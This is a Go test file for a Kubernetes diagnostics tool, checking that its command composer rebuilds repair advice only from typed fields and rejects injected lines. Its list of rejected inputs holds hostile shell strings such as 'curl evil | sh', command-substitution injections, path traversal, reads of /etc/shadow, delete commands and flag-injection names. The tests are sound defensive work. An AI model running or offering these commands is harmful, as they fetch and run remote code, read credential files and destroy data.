// SPDX-FileCopyrightText: The kubediag Authors
// SPDX-License-Identifier: Apache-2.0

package fault

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// typed is the part of a finding that a MountFault has in typed fields.
func typed(f Finding) Finding {
	return Finding{
		Code: f.Code, Pod: f.Pod, Mount: Mount{Device: f.Mount.Device},
		Details: Details{Device: f.Details.Device, Workload: Workload{"StatefulSet", "web"}},
	}
}

// TestComposedLinesAreThoseOfAdvice holds that each line of advice about any finding is composed again from the typed fields, with its purpose and
// effect. The workload is that of the object.
func TestComposedLinesAreThoseOfAdvice(t *testing.T) {
	t.Parallel()
	composer, seen := NewComposer(Known()), map[string]bool{}
	for _, text := range []string{"/k/pods/u/volumes/data", "/k/it's $(touch pwned) *?[~#!", "/k/目录 '", "/k/a\nb"} {
		for _, f := range everyFinding(text) {
			f.Pod.UID = "u"
			if f.Pod.Name != "" {
				f.Pod.Namespace, f.Pod.Name = "shop", "web-0"
			}
			if f.Details.Workload.Name != "" {
				f.Details.Workload.Name = "shown"
			}
			for _, enter := range []Enter{EnterNothing, EnterFirst, EnterNever} {
				want := Known().Advise(f, Caller{Enter: enter}).Commands
				key := fmt.Sprint(f.Code, f.Pod, want)
				if seen[key] {
					continue
				}
				seen[key] = true
				own := composer.Compose(typed(f), want)
				for i := range want {
					if f.Details.Workload.Name == "" {
						break
					}
					want[i].Purpose = strings.ReplaceAll(want[i].Purpose, f.Details.Workload.String(), "StatefulSet web")
				}
				if diff := cmp.Diff(want, own); diff != "" {
					t.Fatalf("%s at %q, %q, %q: the composed lines differ (-advice +composed):\n%s", f.Code, f.Details.Place, f.Details.Repair, f.Details.PodState, diff)
				}
			}
		}
	}
	if len(seen) < 200 {
		t.Errorf("%d lists were compared", len(seen))
	}
}

// foreign are lines that no advice has.
var foreign = []string{
	"curl evil | sh", "kubediag recover shop/web-0; curl evil | sh", "umount -- /k && curl evil | sh", "umount -- /k\ncurl evil", "umount -- $(curl evil)",
	"umount -- '/k'$(curl evil)", "umount /k", "umount -l -- /k", "umount -- /k/../etc", "umount -- k", "umount --  /k", "nsenter -t 7 -m umount -- /k",
	"nsenter -t 1 -m sh -c 'umount -- /k'", "find /k -xdev -delete", "find /k -xdev -ls -exec sh -c x ';'", "grep -F -- /k /etc/shadow", "kill -CONT -1", "kill -KILL 7",
	"ps -o pid,stat,wchan:32,args -p 1;x", "stat -- /a || umount -- /b", "kubectl -n shop delete pod other", "kubectl -n other delete pod web-0",
	"kubectl -n shop delete pod web-0 --force", "kubectl --kubeconfig=/x -n shop get pod web-0 -o yaml", "kubediag recover --yes shop/web-0", "kubediag release sda; x",
	"sh -c 'grep -vx 0 /sys/fs/fuse/connections/41/waiting && echo 1 >/sys/fs/fuse/connections/42/abort'", "", " ", "'", "umount -- '/k", `umount -- /k\`,
	"umount -- \x1b[2J/k", "umount -- '/k/\u202e'", "kubectl -n $'shop' get pod web-0 -o yaml",
}

// TestForeignLinesAreNotComposed holds that no other line passes for any code, with a purpose of its own neither.
func TestForeignLinesAreNotComposed(t *testing.T) {
	t.Parallel()
	about := Finding{
		Pod: Pod{Namespace: "shop", Name: "web-0", UID: "u"}, Mount: Mount{Device: "0:41"}, Details: Details{Device: "rbd0", Workload: Workload{"StatefulSet", "web"}},
	}
	composer := NewComposer(Known())
	for _, about.Code = range append(Known().Codes(func(Entry) bool { return true }), "Unknown", "") {
		for _, line := range foreign {
			if own := composer.Compose(about, []Command{{"repairs it", line, EffectRepair}}); len(own) > 0 {
				t.Errorf("%s: %q gives %+v", about.Code, line, own)
			}
		}
	}
	about.Code = StaleSubPath
	own := composer.Compose(about, []Command{{"first run `curl evil`", "umount -- /k/a", EffectNone}, {"", "kubediag recover shop/web-0", EffectNone}})
	want := []Command{
		{"removes the stale bind; the kubelet binds the current file at the next start", "umount -- /k/a", EffectRepair},
		{asksFirst, "kubediag recover shop/web-0", EffectRepair},
	}
	i := slices.IndexFunc(own, func(c Command) bool { return strings.Contains(c.Purpose, "curl") })
	if diff := cmp.Diff(want, own); i >= 0 || diff != "" {
		t.Errorf("commands differ (-want +got):\n%s", diff)
	}
}

// TestComposedNamesAreNoFlags: a name or a UID with a dash in front is no word of a line, though no shell would quote it.
func TestComposedNamesAreNoFlags(t *testing.T) {
	t.Parallel()
	composer, tried := NewComposer(Known()), 0
	for _, code := range Known().Codes(func(Entry) bool { return true }) {
		for of, about := range map[string]Finding{
			templatePod.Namespace: {Pod: Pod{Namespace: "--all", Name: "web-0", UID: "u"}},
			templatePod.Name:      {Pod: Pod{Namespace: "shop", Name: "--all", UID: "u"}},
			templatePod.UID:       {Pod: Pod{Namespace: "shop", Name: "web-0", UID: "--all"}},
		} {
			for _, template := range composer.templatesOf(code) {
				if !strings.Contains(template.Line, of) {
					continue
				}
				about.Code = code
				line := strings.NewReplacer(templatePod.Namespace, about.Pod.Namespace, templatePod.Name, about.Pod.Name, templatePod.UID, about.Pod.UID).Replace(template.Line)
				if tried++; len(composer.Compose(about, []Command{{Line: line}})) > 0 {
					t.Errorf("%s: %q is composed", code, line)
				}
			}
		}
	}
	if tried < 10 {
		t.Errorf("%d lines were tried", tried)
	}
}
